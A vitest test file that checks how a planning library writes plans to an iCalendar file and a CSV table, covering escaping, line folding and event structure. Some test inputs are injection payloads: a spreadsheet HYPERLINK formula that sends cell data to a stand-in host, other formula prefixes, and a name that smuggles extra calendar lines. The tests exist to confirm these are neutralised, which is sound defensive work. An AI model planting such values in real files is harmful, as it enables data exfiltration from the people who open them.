/** The files that a plan is written into: a calendar (RFC 5545) and a table (RFC 4180). */
import type { LeftOutMeasure, PlannedMeasure, PlanReport } from '@holdfast/holdfast'
import { describe, expect, test } from 'vitest'
import { renderPlanCalendar, renderPlanTable } from '../src/index.ts'

function planned(given: Partial<PlannedMeasure>): PlannedMeasure {
  return {
    id: 'desk',
    name: 'A desk of our own',
    kind: 'substitute',
    start: '2026-11-01',
    finish: '2027-01-30',
    deadline: null,
    cost: 120_000.5,
    once: 100_000,
    yearly: 20_000.5,
    effort: [{ team: 'ict', name: 'ICT', personDays: 40 }],
    after: [],
    saves: 120.25,
    helps: ['write'],
    fixed: false,
    noRegret: true,
    ...given,
  }
}

const leftOut: LeftOutMeasure = {
  id: 'phones',
  name: 'Satellite phones',
  kind: 'buffer',
  reason: 'budget',
  because: ['desk'],
  cost: 12_000,
  wouldSave: 0.25,
}

/** Only what the two files tell of a plan. */
function report(measures: readonly PlannedMeasure[], more: Partial<PlanReport> = {}): PlanReport {
  const plan: Partial<PlanReport> = {
    institution: { id: 'court', name: 'Court of the Delta' },
    on: '2026-11-01',
    currency: 'EUR',
    measures: [...measures],
    leftOut: [leftOut],
    ...more,
  }
  return plan as PlanReport
}

interface Property {
  readonly name: string
  readonly params: string
  readonly value: string
}

/** Lines of an iCalendar file as section 3.1 has them; throws where it is none. */
function contentLines(text: string): Property[] {
  if (!text.endsWith('\r\n')) throw new Error('the last line has no end')
  const physical = text.slice(0, -2).split('\r\n')
  for (const line of physical) {
    if (Buffer.byteLength(line) > 75) throw new Error(`longer than 75 bytes: ${line}`)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    if (/[\u0000-\u0008\u000a-\u001f\u007f\ufffd]/.test(line)) throw new Error(`control: ${line}`)
  }
  return physical
    .join('\r\n')
    .replaceAll('\r\n ', '')
    .split('\r\n')
    .map((line) => {
      const match = /^([A-Z-]+)((?:;[A-Z-]+=[^:;,"]+)*):(.*)$/s.exec(line)
      if (match === null) throw new Error(`no content line: ${line}`)
      return { name: match[1] ?? '', params: match[2] ?? '', value: match[3] ?? '' }
    })
}

/** TEXT of section 3.3.11; throws at a sign that ought to be escaped. */
function textOf(value: string): string {
  if (/^(?:[^\\;,]|\\[\\;,nN])*$/.test(value) === false) throw new Error(`not escaped: ${value}`)
  return value.replace(/\\(.)/g, (_, sign: string) => (/n/i.test(sign) ? '\n' : sign))
}

type Event = ReadonlyMap<string, Property>

/** The events of a calendar; throws where components do not nest or a property stands twice. */
function eventsOf(text: string): Event[] {
  const lines = contentLines(text)
  expect([lines[0], lines.at(-1)].map((line) => `${line?.name}:${line?.value}`)).toEqual([
    'BEGIN:VCALENDAR',
    'END:VCALENDAR',
  ])
  const events: Event[] = []
  let open: Map<string, Property> | null = null
  for (const line of lines.slice(1, -1)) {
    if (line.name === 'BEGIN') {
      if (open !== null || line.value !== 'VEVENT') throw new Error(`in an event: ${line.value}`)
      open = new Map()
    } else if (line.name === 'END') {
      if (open === null) throw new Error('ends what has not begun')
      events.push(open)
      open = null
    } else if (open !== null) {
      if (open.has(line.name)) throw new Error(`twice: ${line.name}`)
      open.set(line.name, line)
    }
  }
  for (const event of events) {
    for (const name of ['UID', 'DTSTAMP', 'DTSTART']) expect(event.has(name), name).toBe(true)
    expect(event.get('DTSTART')?.params).toBe(';VALUE=DATE')
    expect(event.get('DTEND')?.params).toBe(';VALUE=DATE')
    expect(event.get('DTEND')?.value && (event.get('DTEND')?.value ?? '')).toMatch(/^\d{8}$/)
    expect(String(event.get('DTEND')?.value) > String(event.get('DTSTART')?.value)).toBe(true)
    for (const name of ['SUMMARY', 'DESCRIPTION', 'CATEGORIES', 'UID']) {
      textOf(event.get(name)?.value ?? '')
    }
  }
  expect(new Set(events.map((event) => event.get('UID')?.value)).size).toBe(events.length)
  return events
}

const calendar = (given: PlanReport) => renderPlanCalendar(given, { locale: 'en' })

describe('the calendar of a plan', () => {
  test('has what section 3.6 asks of a calendar, and no method', () => {
    const lines = contentLines(calendar(report([planned({})])))
    const named = (name: string) => lines.filter((line) => line.name === name)
    expect(named('VERSION').map(({ value }) => value)).toEqual(['2.0'])
    expect(named('PRODID')).toHaveLength(1)
    expect(named('METHOD')).toHaveLength(0)
  })

  test('has an event of whole days for each measure, up to the day before it takes effect', () => {
    const [event, ...others] = eventsOf(calendar(report([planned({ after: ['tender'] })])))
    expect(others).toEqual([])
    expect(event?.get('DTSTART')?.value).toBe('20261101')
    expect(event?.get('DTEND')?.value).toBe('20270130')
    expect(event?.get('DTSTAMP')?.value).toBe('20261101T000000Z')
    expect(event?.get('SUMMARY')?.value).toBe('A desk of our own')
    expect(textOf(event?.get('DESCRIPTION')?.value ?? '')).toBe(
      [
        'In effect from 30 Jan 2027.',
        'Costs 120,001 EUR within the plan: 100,000 once and 20,001 of running costs.',
        'ICT: 40 person-days.',
        'Waits for tender.',
        'Without it the expected loss would be 120.3 weighted days more.',
      ].join('\n'),
    )
  })

  test('a deadline is an event of one day; what takes no time has a day all the same', () => {
    const short = planned({ start: '2026-12-31', finish: '2026-12-31', deadline: '2026-12-31' })
    const events = eventsOf(calendar(report([short])))
    const days = events.map((event) => [event.get('DTSTART')?.value, event.get('DTEND')?.value])
    expect(days).toEqual([
      ['20261231', '20270101'],
      ['20261231', '20270101'],
    ])
    expect(events[1]?.get('SUMMARY')?.value).toBe('To be finished: A desk of our own')
  })

  test.for([
    'Comma, semicolon; back\\slash: "quotes"',
    'a line\nand another',
    'é'.repeat(200),
    '日本語の名前'.repeat(30),
    `${'x'.repeat(66)}😀${'y'.repeat(72)}😀`,
    '=1+1',
    'bell\u0007 and\u2028all',
    'END:VEVENT\r\nBEGIN:VEVENT',
  ])('any name comes back as it was: %s', (name) => {
    const events = eventsOf(calendar(report([planned({ name })])))
    expect(events).toHaveLength(1)
    const shown = name.replaceAll('\r', '').replaceAll('\u0007', '')
    expect(textOf(events[0]?.get('SUMMARY')?.value ?? '').replaceAll('\u2028', '')).toBe(
      shown.replaceAll('\u2028', ''),
    )
  })

  test('a later plan moves the events of an earlier one', () => {
    const ids = (start: string) =>
      eventsOf(calendar(report([planned({ start })]))).map((event) => event.get('UID')?.value)
    expect(ids('2026-12-01')).toEqual(ids('2026-11-01'))
  })

  test('a plan of nothing is a calendar without events', () => {
    expect(eventsOf(calendar(report([])))).toEqual([])
  })
})

/** Rows of RFC 4180; throws where the text breaks its grammar. */
function rowsOf(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (field.lastIndex < text.length) {
    const at = field.lastIndex
    const match = field.exec(text)
    if (match === null) throw new Error(`no field at ${at}: ${text.slice(at, at + 40)}`)
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === '\r\n') rows.push(row)
    if (match[3] === '\r\n') row = []
  }
  return rows
}

/** Rows by their columns. */
function recordsOf(text: string): Record<string, string>[] {
  const [head = [], ...rows] = rowsOf(text)
  for (const row of rows) expect(row).toHaveLength(head.length)
  return rows.map((row) => Object.fromEntries(row.map((cell, index) => [head[index] ?? '', cell])))
}

describe('the table of a plan', () => {
  test('has a row for each measure, those of the plan by their day', () => {
    const late = planned({ id: 'late', start: '2027-02-01', finish: '2027-03-01' })
    const rows = recordsOf(renderPlanTable(report([late, planned({})])))
    expect(rows.map(({ state, id }) => `${state} ${id}`)).toEqual([
      'planned desk',
      'planned late',
      'left out phones',
    ])
    expect(rows[0]).toMatchObject({
      start: '2026-11-01',
      finish: '2027-01-30',
      deadline: '',
      cost: '120000.5',
      once: '100000',
      running: '20000.5',
      currency: 'EUR',
      'person-days': 'ict 40',
      saves: '120.25',
      fixed: 'no',
      'no-regret': 'yes',
      reason: '',
    })
    expect(rows[2]).toMatchObject({ start: '', reason: 'budget', because: 'desk', saves: '0.25' })
  })

  test.for([0, 1, 10, 100, 1e-7, 0.1 + 0.2, 123_456_789_012.34, 1e15])('%d is plain', (cost) => {
    const [row] = recordsOf(renderPlanTable(report([planned({ cost })])))
    expect(row?.cost).toMatch(/^(0|[1-9]\d*)(\.\d*[1-9])?$/)
    expect(Number(row?.cost)).toBeCloseTo(cost, 3)
  })

  test.for([
    ['=HYPERLINK("http://a/?"&A1;"x")', `'=HYPERLINK("http://a/?"&A1;"x")`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1', "'＝1"],
    ['\t=1', "'=1"],
    ['\r\n=1', "'=1"],
    ['\u0000=1', "'=1"],
    ['a, "b"', 'a, "b"'],
    ['two\nlines', 'two lines'],
  ] as const)('a name that a spreadsheet would compute is a text: %s', ([name, cell]) => {
    const [row] = recordsOf(renderPlanTable(report([planned({ name })])))
    expect(row?.name).toBe(cell)
  })
})
